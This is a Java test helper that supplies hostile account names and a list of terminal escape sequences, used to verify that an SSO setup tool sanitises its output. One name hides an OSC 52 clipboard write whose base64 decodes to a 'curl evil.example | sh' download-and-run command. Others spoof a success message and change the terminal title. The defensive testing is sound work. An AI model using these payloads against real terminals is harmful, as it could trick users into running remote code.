package dev.ssosetup.testkit;

import static org.assertj.core.api.Assertions.assertThat;

import dev.ssosetup.common.TerminalText;
import dev.ssosetup.sandbox.Fixture;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.List;

/**
 * Names and messages that try to drive a terminal (write the clipboard with OSC 52, set the title,
 * clear the screen, hide text, reorder it with bidirectional overrides, break lines), and the
 * checks that none of it reached the output raw.
 */
public final class HostileText {
  /** The first account's name: an OSC 52 clipboard write. */
  public static final String CLIPBOARD_ACCOUNT =
      "work\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007day";

  /** The second account's name: a line break, a fake message and a title change. */
  public static final String TITLE_ACCOUNT = "Billing\r\nsso-setup: all good\u001b]0;owned\u0007";

  /** The pieces a terminal would act on, as they are in the fixture. */
  public static final List<String> PAYLOADS =
      List.of(
          "\u001b]52;",
          "\u001b]0;",
          "\u001b[2J",
          "\u001b[8m",
          "\u009b",
          "\u202e",
          "\u2066",
          "\u2069",
          "\u2028",
          "\u2029",
          "\u0007",
          "\r\nsso-setup: all good");

  private HostileText() {}

  /**
   * The hostile organisation: two accounts whose names and emails carry terminal escapes and line
   * breaks, roles named with bidirectional overrides, a C1 control and line separators, and a user
   * whose name (in every ARN) has them too. Role {@code S3DynamoDBAccess} in account 111122223333
   * is an ordinary one, for flows that must get through.
   */
  public static Fixture fixture() {
    String resource = "/fixtures/hostile-terminal-text.json";
    try (InputStream in = HostileText.class.getResourceAsStream(resource)) {
      return Fixture.fromJson(new String(in.readAllBytes(), StandardCharsets.UTF_8), resource);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /** How a value is shown once made safe. */
  public static String shown(String value) {
    return TerminalText.safe(value);
  }

  /**
   * Asserts that output written to a pipe (no terminal, so no colour or cursor codes of ours) has
   * no character a terminal would act on, other than its own line ends.
   */
  public static void assertPrintable(String output) {
    for (String line : output.split("\n", -1)) {
      assertThat(TerminalText.isSafe(line))
          .as("a raw control character in the line \"%s\" of:%n%s", shown(line), shown(output))
          .isTrue();
    }
  }

  /**
   * Asserts that what a terminal received (with our own cursor and erase codes) has none of the
   * hostile sequences in it.
   */
  public static void assertNoPayload(String raw) {
    for (String payload : PAYLOADS) {
      assertThat(raw).as("raw terminal output:%n%s", shown(raw)).doesNotContain(payload);
    }
  }
}
